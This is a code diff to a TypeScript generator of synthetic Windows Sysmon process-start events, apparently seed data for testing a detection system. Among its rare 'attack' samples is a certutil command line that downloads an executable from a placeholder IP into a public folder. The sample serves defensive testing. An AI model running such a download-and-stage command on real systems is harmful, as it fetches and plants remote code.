@@ -1,10 +1,11 @@
 /**
  * Processes that start on Windows hosts, seeded, in Sigma's taxonomy, as a forwarder of other people's sensors would send
- * them. One in 1,000 is an attack. With `unique` no command line comes twice; else they come from a pool of 500.
+ * them. One in 1,000 is an attack. What makes a command line its own is marked.
  */
 import type { ExternalBatch, ExternalEvent } from '../../../schemas/generated/types.gen.ts';
 import type { MixOptions } from './linux-mix.ts';
 import { randomFrom, type Random } from './random.ts';
+import { firstSeq, wordFrom, type Mark } from './renewed-batches.ts';
 
 interface Start {
   readonly weight: number;
@@ -33,12 +34,13 @@ const attackLines: readonly Omit<Start, 'weight'>[] = [
   { image: `${system}certutil.exe`, parent: `${system}cmd.exe`, line: () => 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe' },
 ];
 
-const poolSize = 500;
+/** Different programs, by their hashes. */
+const hashes = 500;
 
 export class WindowsMix {
   private readonly random: Random;
   private readonly options: MixOptions;
-  private seq = 0;
+  private seq = firstSeq - 1;
 
   constructor(options: MixOptions) {
     this.options = options;
@@ -46,17 +48,23 @@ export class WindowsMix {
   }
 
   batch(): ExternalBatch {
-    return { source: `desk-${this.random.below(50)}`, stream: 'Microsoft-Windows-Sysmon/Operational', events: Array.from({ length: this.options.eventsPerBatch }, () => this.event()) };
+    return this.marked().batch;
   }
 
-  private event(): ExternalEvent {
+  /** A batch, and the marks of each event. */
+  marked(): { readonly batch: ExternalBatch; readonly marks: readonly (readonly Mark[])[] } {
+    const words = Array.from({ length: this.options.eventsPerBatch }, () => wordFrom(this.random));
+    const events = words.map(({ text }) => this.event(text));
+    return { batch: { source: `desk-${this.random.below(50)}`, stream: 'Microsoft-Windows-Sysmon/Operational', events }, marks: words.map((word) => [word]) };
+  }
+
+  private event(token: string): ExternalEvent {
     const { image, parent, line } = this.random.below(1_000) === 0 ? this.random.of(attackLines) : this.random.weighted(starts);
-    const token = this.options.unique ? this.random.word(10) : randomFrom(this.random.below(poolSize)).word(10);
     const name = image.slice(image.lastIndexOf('\\') + 1);
     this.seq += 1;
     const fields = {
       UtcTime: '2026-05-28 20:26:40.123', ProcessGuid: `{3F0C9A52-${this.seq.toString(16)}}`, ProcessId: String(4 + this.random.below(30_000)), Image: image, FileVersion: '10.0.19041.1', Description: name, Product: 'Operating System', Company: 'Vendor',
-      OriginalFileName: name, CommandLine: line(token), CurrentDirectory: 'C:\\Users\\ann\\', User: 'CORP\\ann', LogonId: '0x3e7', IntegrityLevel: 'Medium', Hashes: `SHA256=${randomFrom(this.random.below(poolSize)).word(64)}`, ParentImage: parent, ParentCommandLine: `"${parent}"`,
+      OriginalFileName: name, CommandLine: line(token), CurrentDirectory: 'C:\\Users\\ann\\', User: 'CORP\\ann', LogonId: '0x3e7', IntegrityLevel: 'Medium', Hashes: `SHA256=${randomFrom(this.random.below(hashes)).word(64)}`, ParentImage: parent, ParentCommandLine: `"${parent}"`,
     };
     return { seq: this.seq, time: 1_780_000_000_000_000_000n + BigInt(this.seq), category: 'process_creation', product: 'windows', service: null, fields };
   }
